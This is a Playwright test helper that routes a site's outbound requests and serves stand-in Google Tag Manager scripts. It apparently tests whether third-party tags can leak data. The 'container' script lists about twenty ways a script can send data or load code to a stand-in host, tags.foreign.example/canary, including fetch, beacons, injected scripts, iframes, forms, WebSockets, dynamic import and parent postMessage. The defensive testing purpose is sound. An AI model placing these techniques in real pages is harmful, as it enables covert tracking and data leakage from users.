import type { BrowserContext } from "@playwright/test";

/**
 * Stands in for Google's tag: it reports each event with everything that it can find out about the browser and the
 * page, as Google's own does and as a careless setting would.
 */
const tag = `(() => {
  const more = () => ({ sr: screen.width + "x" + screen.height, ul: navigator.language, dl: location.href, dr: document.referrer,
    uap: navigator.platform, dt: document.title, cid: "canary.1", sid: "1900000000", gcs: "G100", _ss: "1",
    "ep.name": "canary", "epn.loss": "50000", em: "canary" });
  const report = (args) => {
    if (args[0] !== "event") return;
    const values = { v: "2", tid: "G-ABCDEF1234", en: args[1], ...more(), cu: args[2].currency, "epn.value": args[2].value };
    navigator.sendBeacon("https://region1.google-analytics.com/g/collect?" + new URLSearchParams(values));
  };
  dataLayer.forEach(report);
  dataLayer.push = (args) => (Array.prototype.push.call(dataLayer, args), report(args));
  report(["event", "scroll", {}]);
})();`;

/** A container with tags of others, which try every way out that a script has. Each address contains "canary". */
const container = `(() => {
  const foreign = "https://tags.foreign.example/canary";
  const attempts = [
    () => fetch(foreign, { method: "POST", body: "canary" }),
    () => navigator.sendBeacon(foreign, "canary"),
    () => { new Image().src = foreign; },
    () => { document.head.innerHTML += '<img srcset="' + foreign + ' 1x"><link rel="stylesheet" href="' + foreign + '">'; },
    () => { const x = new XMLHttpRequest(); x.open("POST", foreign); x.send("canary"); },
    () => { const s = document.createElement("script"); s.src = foreign; document.head.append(s); },
    () => { const s = document.createElement("script"); s.text = "fetch('" + foreign + "')"; document.head.append(s); },
    () => { const f = document.createElement("iframe"); f.src = foreign; document.documentElement.append(f); },
    () => { const f = document.createElement("iframe"); document.documentElement.append(f); f.contentWindow.fetch(foreign); },
    () => { const f = document.createElement("form"); f.action = foreign; f.method = "post"; document.documentElement.append(f); f.submit(); },
    () => new WebSocket("wss://tags.foreign.example/canary"),
    () => new EventSource(foreign),
    () => new Worker(foreign),
    () => window.open(foreign),
    () => { top.location = foreign; },
    () => import(foreign),
    () => { document.cookie = "canary=1"; },
    () => localStorage.setItem("canary", "1"),
    () => parent.document.cookie,
    () => parent.postMessage({ kind: "send", url: foreign, body: "" }, "*"),
    () => parent.postMessage({ kind: "send", url: "https://www.google-analytics.com/g/collect?v=2&tid=G-FOREIGN12&en=page_view&ep.x=canary&uid=canary", body: "" }, "*"),
    () => parent.postMessage({ kind: "send", url: "https://www.google-analytics.com/g/collect?v=2&tid=G-FOREIGN12&en=canary", body: "" }, "*"),
  ];
  // A frame that leaves its document ends all its scripts, so this comes last.
  addEventListener("message", ({ data }) => { if (data.name === "phone_call") location.href = foreign; });
  for (const attempt of attempts) try { attempt()?.catch?.(() => {}); } catch {}
})();`;

/** Answers for Google and every other host, and lists each request that would have left this machine. */
export async function standInForOthers(context: BrowserContext, site: string): Promise<URL[]> {
  const left: URL[] = [];
  const host = new URL(site).host;
  await context.route(
    (url) => url.host !== host && url.protocol !== "data:",
    async (route) => {
      const url = new URL(route.request().url());
      left.push(url);
      if (url.host !== "www.googletagmanager.com") return route.fulfill({ status: 204 });
      const body = url.pathname === "/gtm.js" ? container : tag;
      return route.fulfill({ contentType: "text/javascript", headers: { "access-control-allow-origin": "*" }, body });
    },
  );
  return left;
}
